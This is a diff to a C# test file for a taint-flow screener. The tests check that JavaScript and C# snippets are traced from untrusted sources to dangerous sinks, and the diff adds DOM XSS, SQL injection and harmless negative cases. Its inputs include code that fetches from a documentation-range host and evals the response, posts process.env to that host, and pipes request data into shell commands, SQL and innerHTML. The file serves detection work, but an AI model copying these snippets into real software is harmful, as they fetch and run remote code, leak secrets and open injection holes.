@@ -50,12 +50,25 @@ public sealed class FlowTests(ParserContainer parser)
     [InlineData("require('http').get('http://192.0.2.1/', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); })", "network http.get > code eval 0")]
     [InlineData("app.get('/', (req, res) => require('child_process').exec('ls ' + req.query.d))", "request req.query > shell child_process.exec 0")]
     [InlineData("app.get('/', (req, res) => { const { id } = req.params; db.query(`SELECT * FROM t WHERE i = ${id}`) })", "request req.params > sql .query 0")]
-    [InlineData("function show(n) { document.body.innerHTML = n }", "parameter n > html .innerHTML value")]
+    [InlineData("function show(n) { document.body.innerHTML = n }", "parameter n > html document.body.innerHTML value")]
     [InlineData("fetch('http://192.0.2.1/', { method: 'POST', body: JSON.stringify(process.env) })", "environment process.env > network fetch body")]
     [InlineData("require('child_process').spawn('ls ' + process.argv[2], { shell: true })", "arguments process.argv > shell child_process.spawn 0")]
     [InlineData("process.stdin.on('data', d => eval(d.toString()))", "stdin process.stdin > code eval 0")]
+    [InlineData("document.body.innerHTML = location.hash", "request location > html document.body.innerHTML value")]
+    [InlineData("document.write(decodeURIComponent(document.location.search))", "request document.location > html document.write 0")]
+    [InlineData("function show({ name }) { document.body.innerHTML = name }", "parameter { name } > html document.body.innerHTML value")]
+    [InlineData("app.get('/', ({ query: { id } }, res) => db.query(`SELECT * FROM t WHERE i = ${id}`))", "request query > sql .query 0")]
     public async Task JavaScript_is_followed(string code, string flow) =>
         Assert.Contains(flow, Flows(await Screening.Screener(parser).JavaScriptAsync(code)));
+
+    [Theory]
+    [InlineData("app.get('/', (req, res) => { const location = req.query.city; res.json({ location }) })")]
+    [InlineData("app.get('/', (req, res) => { let location; location = req.query.city; res.json({ location }) })")]
+    [InlineData("app.get('/', (req, res) => { const document = { body: {} }; document.title = req.query.t; res.json(document) })")]
+    [InlineData("console.log(location.hash); document.title = location.search; el.textContent = location.href")]
+    [InlineData("const { location } = require('./places'); console.log(location)")]
+    public async Task JavaScript_that_is_harmless_has_no_flow(string code) =>
+        Assert.Empty(Flows(await Screening.Screener(parser).JavaScriptAsync(code)));
 
     [Theory]
     [InlineData("var t = await new System.Net.Http.HttpClient().GetStringAsync(\"http://192.0.2.1/\"); System.Diagnostics.Process.Start(\"sh\", t);", "network System.Net.Http.HttpClient.GetStringAsync > process System.Diagnostics.Process.Start 1")]
